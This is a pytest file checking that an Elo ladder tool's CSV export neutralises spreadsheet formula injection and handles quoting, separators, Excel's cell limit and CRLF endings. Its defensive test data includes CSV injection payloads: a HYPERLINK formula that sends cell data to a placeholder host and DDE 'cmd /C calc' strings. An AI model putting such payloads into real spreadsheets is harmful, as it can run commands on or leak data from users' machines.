"""The one CSV writer (`csv_writer`): a cell a spreadsheet would run as a formula is written as text (a leading
apostrophe) wherever elo_core writes CSV: the ladder's ranking and history (`ladder_csv`, the bridge's `csv` kind,
`elo-core ladder --csv` and `--history`) and any table the widget sends (the tournament report's download);
RFC 4180 quoting, the three separators, decimal commas under `;`."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from elo_core.bridge import ladder
from elo_core.contract.csv_writer import cell, table_csv, write_csv
from elo_core.reports.ladder import (
    HISTORY_COLUMNS,
    LEAGUE_HISTORY,
    RANKING_COLUMNS,
    ladder_csv,
    ladder_report,
    vocabulary,
)
from elo_core.transport.cli import main

HOSTILE = ('=HYPERLINK("http://x"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
"""Names a spreadsheet would run as formulas (OWASP's examples)."""
LEDGER = "date,white,black,result\n" + "".join(
    f'2026-03-0{i + 1},"{name.replace(chr(34), chr(34) * 2)}",Anna,1\n' for i, name in enumerate(HOSTILE))


def cells(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def test_hostile_names_in_the_ranking_csv_start_with_an_apostrophe() -> None:
    answer = ladder_report({"text": LEDGER})
    rows = cells(ladder_csv({"players": answer["players"]})["csv"])
    names = {row[3] for row in rows[1:]}
    assert {"'" + name for name in HOSTILE} | {"Anna"} == names
    assert {"'" + name for name in HOSTILE} | {"Anna"} == {row[2] for row in rows[1:]}  # the ids too


def test_hostile_opponents_in_the_history_csv_start_with_an_apostrophe() -> None:
    answer = ladder_report({"text": LEDGER})
    anna = next(p for p in answer["players"] if p["id"] == "Anna")
    rows = cells(ladder_csv({"history": anna["history"]})["csv"])
    assert ["'" + name for name in HOSTILE] == [row[3] for row in rows[1:]]


def test_the_bridge_csv_kind_guards_the_ranking() -> None:
    answer = json.loads(ladder(json.dumps({"text": LEDGER})))
    text = json.loads(ladder(json.dumps({"kind": "csv", "players": answer["players"]})))["csv"]
    assert "'" + HOSTILE[0] in {row[3] for row in cells(text)}


def test_the_ranking_csv_takes_the_page_s_words_for_its_headers_and_flags() -> None:
    """The widget's ladder sends its language's words, as its report's CSV has them (hp85: English on a German
    page); a column without a word keeps its key."""
    answer = ladder_report({"text": "date,white,black,result\n2026-01-05,Anna,Ben,1-0\n"})
    words = {"rank": "Rang", "name": "Name", "active": "Aktiv", "yes": "ja", "no": "nein"}
    rows = cells(json.loads(ladder(json.dumps({"kind": "csv", "players": answer["players"], "separator": ";",
                                              "words": words})))["csv"], ";")
    assert ["pool", "Rang", "id", "Name"] == rows[0][:4]
    assert ["ja", "ja"] == [row[rows[0].index("Aktiv")] for row in rows[1:]]
    assert "yes" == cells(ladder_csv({"players": answer["players"]})["csv"])[1][RANKING_COLUMNS.index("active")]


def test_a_history_csv_takes_the_page_s_headers() -> None:
    answer = ladder_report({"text": "date,white,black,result\n2026-01-05,Anna,Ben,1-0\n"})
    history = answer["players"][0]["history"]
    assert ["Partie", "date"] == cells(ladder_csv({"history": history, "words": {"game": "Partie"}})["csv"])[0][:2]


def test_the_values_that_are_keys_are_said_in_the_page_s_language() -> None:
    """A German page's CSV said "home" and "inactive" (stop 61's note): the values that are keys take the page's
    words, in their own columns alone (a team called "home" keeps its name)."""
    league = ladder_report({"text": "date,home,away,score\n2026-01-05,home,Rovers,3-1\n2026-01-12,Rovers,home,2-2\n"})
    history = next(p for p in league["players"] if p["name"] == "Rovers")["history"]
    words = {"venue": "Ort", "home": "heim", "away": "auswärts", "inactive": "inaktiv"}
    rows = cells(ladder_csv({"history": history, "words": words})["csv"])
    venue = rows[0].index("Ort")
    assert ["auswärts", "heim"] == [row[venue] for row in rows[1:]]
    assert "home" in [row[rows[0].index("opponent")] for row in rows[1:]]
    old = ladder_report({"text": "date,white,black,result\n2020-01-05,Anna,Ben,1-0\n2026-01-05,Anna,Cleo,1-0\n"})
    table = cells(ladder_csv({"players": old["players"], "words": words})["csv"])
    reason = table[0].index("inactive_reason")
    assert {"", "inaktiv"} == {row[reason] for row in table[1:]}


def test_words_that_are_not_texts_are_refused() -> None:
    for words in (["Rang"], {"rank": 5}):
        refused = ladder_csv({"players": [], "words": words})
        assert ("words", "not_an_object") == (refused["errors"][0]["field"], refused["errors"][0]["code"])


def test_the_widget_s_contract_lists_every_column_a_ladder_csv_may_have() -> None:
    assert set(RANKING_COLUMNS) | set(HISTORY_COLUMNS) | set(LEAGUE_HISTORY) <= set(vocabulary()["csv_columns"])


def run_cli(tmp_path: Path, *argv: str) -> tuple[int, str]:
    games = tmp_path / "games.csv"
    games.write_text(LEDGER, encoding="utf-8")
    out = io.StringIO()
    code = main(["ladder", str(games), *argv], stdin=io.StringIO(""), stdout=out)
    return code, out.getvalue()


@pytest.mark.parametrize("separator", [",", ";", "tab"])
def test_cli_csv_writes_hostile_names_as_text(tmp_path: Path, separator: str) -> None:
    code, out = run_cli(tmp_path, "--csv", "--separator", separator)
    assert 0 == code
    rows = cells(out, "\t" if separator == "tab" else separator)
    assert {"'" + name for name in HOSTILE} | {"Anna"} == {row[3] for row in rows[1:]}


def test_cli_history_writes_hostile_opponents_as_text(tmp_path: Path) -> None:
    code, out = run_cli(tmp_path, "--history", "Anna")
    assert 0 == code
    assert ["'" + name for name in HOSTILE] == [row[3] for row in cells(out)[1:]]


def test_cli_csv_with_bom_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
    code, out = run_cli(tmp_path, "--csv", "--bom")
    assert 0 == code
    assert out.startswith("\ufeffpool,rank,id,name")
    assert not run_cli(tmp_path, "--csv")[1].startswith("\ufeff")


def test_a_table_is_written_with_crlf_and_its_formulas_as_text() -> None:
    table = [["name", "change", "note"], [HOSTILE[0], -12.5, "-12.5"], ["Meier, Anna", 3, None], ["@x", 7.25, "="]]
    answer = json.loads(ladder(json.dumps({"kind": "csv", "table": table})))
    assert answer["ok"]
    assert answer["csv"].endswith("\r\n") and answer["csv"].count("\r\n") == 4
    assert [["name", "change", "note"], ["'" + HOSTILE[0], "-12.5", "'-12.5"], ["Meier, Anna", "3", ""],
            ["'@x", "7.25", "'="]] == cells(answer["csv"])


def test_a_table_with_semicolons_writes_decimal_commas() -> None:
    answer = table_csv({"table": [["rating"], [1512.25], [-7.4], ["7,4"]], "separator": ";"})
    assert "rating\r\n1512,25\r\n-7,4\r\n7,4\r\n" == answer["csv"]


def test_a_table_that_is_no_table_is_refused_naming_the_cell() -> None:
    assert "table" == table_csv({"table": "x"})["errors"][0]["field"]
    assert "table[1]" == table_csv({"table": [[], 3]})["errors"][0]["field"]
    refused = table_csv({"table": [["a", {"b": 1}]]})["errors"][0]
    assert ("table[0][1]", "expected table[0][1] to be text, a finite number or null, got an object") == (
        refused["field"], refused["message"])
    assert not table_csv({"table": [[float("nan")]]})["ok"]
    assert "separator" == table_csv({"table": [], "separator": "|"})["errors"][0]["field"]
    assert not table_csv([1])["ok"]
    assert "bad_json" == json.loads(ladder('{"kind": "csv", "table": ['))["errors"][0]["code"]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("Anna", "Anna"), ("12.5", "12.5"),
    (-12.5, "-12.5"), (+3, "3"), (True, "yes"), (None, ""), (2000.0, "2000"),
])
def test_a_text_cell_starting_as_a_formula_is_kept_as_text_and_a_number_is_written_as_it_is(value: object,
                                                                                              written: str) -> None:
    assert written == cell(value)


def test_quoting_is_rfc_4180() -> None:
    assert 'a,"b,c","d ""e""","f\ng"\r\n' == write_csv([["a", "b,c", 'd "e"', "f\ng"]])
    assert 'a;"b,c";1,5\r\n' == write_csv([["a", "b,c", 1.5]], ";")  # text with the other separator: quoted


def test_a_cell_holding_the_other_separator_is_quoted_so_no_formula_follows_it_in_a_semicolon_spreadsheet() -> None:
    """German Excel splits a comma file on its semicolons: `1;=cmd…` unquoted became a formula cell there."""
    text = write_csv([["name"], ["1;=cmd|' /C calc'!A0+0"], ["x\t=1+1"]], ",")
    assert ['name', '"1;=cmd|\' /C calc\'!A0+0"', '"x\t=1+1"'] == text.splitlines()
    assert ['name', '"x,=1+1"'] == write_csv([["name"], ["x,=1+1"]], ";").splitlines()


def test_a_formula_after_spaces_or_in_full_width_is_kept_as_text() -> None:
    assert ["' =1+1", "'＝1+1", "'-١٢"] == [cell(" =1+1"), cell("＝1+1"), cell("-١٢")]


@pytest.mark.parametrize(("name", "written"), [("+1", "'+1"), ("-5", "'-5"), ("+3", "'+3"), ("-7,4", "'-7,4")])
def test_a_text_that_looks_like_a_number_is_kept_as_text_so_a_spreadsheet_keeps_the_name(name: str,
                                                                                         written: str) -> None:
    """A player named `+1`: written bare, Excel read the cell as the number 1 and the name was lost (hp85)."""
    assert written == cell(name)


def test_a_player_named_like_a_number_keeps_the_name_in_the_ranking_csv() -> None:
    answer = ladder_report({"text": "date,white,black,result\n2026-01-06,+1,Anna,0-1\n2026-01-07,-5,Anna,1-0\n"})
    rows = cells(ladder_csv({"players": answer["players"], "separator": ";"})["csv"], ";")
    assert {"'+1", "'-5", "Anna"} == {row[3] for row in rows[1:]}


# ---- Excel's limit on a cell (hostile pass of issue 38, L11) -------------------------------------------------------

EXCEL_MAX_CELL = 32_767
"""Excel's most characters in a cell ("Excel specifications and limits"); a longer cell spills into the rows below."""


def test_a_text_cell_over_excels_limit_is_cut_to_it_with_an_ellipsis_and_its_row_kept() -> None:
    table = [["name", "note", "change"], ["Anna", "x" * 40_000, -7.5], ["Ben", "ok", 3]]
    rows = cells(table_csv({"table": table})["csv"])
    assert [3, 3, 3] == [len(row) for row in rows]
    assert EXCEL_MAX_CELL == len(rows[1][1])
    assert "x" * (EXCEL_MAX_CELL - 1) + "…" == rows[1][1]
    assert [["Anna", "-7.5"], ["Ben", "3"]] == [[row[0], row[2]] for row in rows[1:]]


def test_a_text_cell_at_excels_limit_is_written_whole() -> None:
    assert [["y" * EXCEL_MAX_CELL]] == cells(write_csv([["y" * EXCEL_MAX_CELL]]))


def test_a_long_name_in_the_ladder_ranking_csv_is_cut_to_excels_limit() -> None:
    answer = ladder_report({"text": "date,white,black,result\n2026-03-01," + "N" * 40_000 + ",Anna,1\n"})
    rows = cells(ladder_csv({"players": answer["players"]})["csv"])
    long = next(row for row in rows[1:] if row[3] != "Anna")
    assert (EXCEL_MAX_CELL, EXCEL_MAX_CELL, "…") == (len(long[2]), len(long[3]), long[3][-1])
    assert len(rows[0]) == len(long)


def test_a_cell_is_cut_by_excels_count_in_utf16_units_never_halving_an_emoji() -> None:
    """Excel counts a character beyond U+FFFF (🏆) as two units: "a" and 16 383 trophies are 32 767, whole."""
    assert [["a" + "🏆" * 16_383]] == cells(write_csv([["a" + "🏆" * 16_383]]))
    # 32 769 units: the cut falls within the 16 383rd trophy (units 32 766-32 767), which goes whole
    assert "a" + "🏆" * 16_382 + "…" == cells(write_csv([["a" + "🏆" * 16_384]]))[0][0]


def test_a_long_formula_is_cut_after_its_apostrophe_so_it_stays_text() -> None:
    written = cells(write_csv([["=" + "1+" * 20_000 + "1"]]))[0][0]
    assert (EXCEL_MAX_CELL, "'=1+1") == (len(written), written[:5])


# ---- one line ending, CRLF, in every CSV (hostile pass of issue 38, L12) -------------------------------------------


def crlf_only(text: str) -> bool:
    """Every line ends with CRLF, and no LF or CR stands alone (outside a quoted cell, which LEDGER has none of)."""
    return text.endswith("\r\n") and text.count("\n") == text.count("\r\n") == text.count("\r")


def test_the_ladder_ranking_and_history_csv_end_their_lines_with_crlf_as_the_reports_does() -> None:
    answer = ladder_report({"text": LEDGER})
    anna = next(p for p in answer["players"] if p["id"] == "Anna")
    ranking = ladder_csv({"players": answer["players"]})["csv"]
    history = ladder_csv({"history": anna["history"], "separator": ";"})["csv"]
    report = table_csv({"table": [["name", "change"], ["Anna", 3]]})["csv"]
    assert (True, True, True) == (crlf_only(ranking), crlf_only(history), crlf_only(report))
    assert (1 + 5, 1 + 4) == (ranking.count("\r\n"), history.count("\r\n"))


def test_the_bridge_ladder_csv_ends_its_lines_with_crlf() -> None:
    answer = json.loads(ladder(json.dumps({"text": LEDGER})))
    assert crlf_only(json.loads(ladder(json.dumps({"kind": "csv", "players": answer["players"]})))["csv"])


@pytest.mark.parametrize("option", [("--csv",), ("--csv", "--bom"), ("--history", "Anna")])
def test_cli_csv_and_history_end_their_lines_with_crlf(tmp_path: Path, option: tuple[str, ...]) -> None:
    code, out = run_cli(tmp_path, *option)
    assert (0, True) == (code, crlf_only(out))


@pytest.mark.parametrize("option", [("--csv",), ("--history", "Anna")])
def test_cli_csv_on_a_stream_that_ends_lines_as_windows_does_is_not_cr_cr_lf(tmp_path: Path,
                                                                            option: tuple[str, ...]) -> None:
    """Windows' sys.stdout turns each LF written into CRLF: the CSV's CRLF must reach the file as it is."""
    games = tmp_path / "games.csv"
    games.write_text(LEDGER, encoding="utf-8")
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="utf-8", newline="\r\n")
    assert 0 == main(["ladder", str(games), *option], stdin=io.StringIO(""), stdout=out)
    out.flush()
    assert crlf_only(raw.getvalue().decode("utf-8"))


def test_cli_csv_in_a_real_process_writes_crlf_bytes(tmp_path: Path) -> None:
    games = tmp_path / "games.csv"
    games.write_text(LEDGER, encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "elo_core", "ladder", str(games), "--csv"], capture_output=True,
                          check=True)
    assert crlf_only(done.stdout.decode("utf-8"))
